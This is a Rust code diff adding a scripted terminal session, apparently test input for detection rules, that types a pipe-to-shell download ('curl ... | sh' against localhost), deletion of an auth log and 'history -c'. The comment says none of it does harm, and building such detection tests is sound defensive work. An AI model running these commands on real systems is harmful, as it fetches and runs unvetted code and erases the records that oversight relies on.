@@ -24,11 +24,17 @@ impl Repertoire {
         let top = find("top").map(top);
         let editor = find("vim").or_else(|| find("vi")).map(editor);
         let missing = [("top", top.is_none()), ("vim", editor.is_none())];
+        let bash = find("bash");
+        let at_shell = |part: fn(PathBuf, &[&str]) -> Script| match &bash {
+            Some(bash) => part(bash.clone(), &BASH),
+            None => part(shell.clone(), &[]),
+        };
         let scripts = [
-            Some(find("bash").map_or_else(|| login(shell.clone(), &[]), |bash| login(bash, &BASH))),
+            Some(at_shell(login)),
             top,
+            Some(at_shell(covering)),
             Some(interrupted(shell.clone())),
-            Some(failing(shell)),
+            Some(failing(shell.clone())),
             editor,
         ];
         Self {
@@ -71,6 +77,22 @@ fn login(shell: PathBuf, arguments: &[&str]) -> Script {
         pause(1500),
         Step::Type("sha256sum notes.txt\r"),
         pause(3000),
+        Step::Type("exit 0\r"),
+    ];
+    script(shell, arguments, 24, 80, steps)
+}
+
+/// A person who has something to hide, so that the rules find something. Nothing of it does any harm:
+/// nobody answers at that port, and there is no such file.
+fn covering(shell: PathBuf, arguments: &[&str]) -> Script {
+    let steps = vec![
+        pause(3000),
+        Step::Type("curl -s http://127.0.0.1:9/setup.sh | sh\r"),
+        pause(4000),
+        Step::Type("rm -f ./var/log/auth.log\r"),
+        pause(3000),
+        Step::Type("history -c\r"),
+        pause(9000),
         Step::Type("exit 0\r"),
     ];
     script(shell, arguments, 24, 80, steps)
@@ -178,7 +200,7 @@ mod tests {
     fn what_is_not_installed_is_named_and_the_rest_is_played() {
         let nothing = Repertoire::find(&[]);
         assert_eq!(nothing.missing, ["top", "vim"]);
-        assert_eq!(nothing.scripts.len(), 3);
+        assert_eq!(nothing.scripts.len(), 4);
         assert!(nothing.scripts.iter().all(|script| script.program == Path::new("/bin/sh")));
     }
 
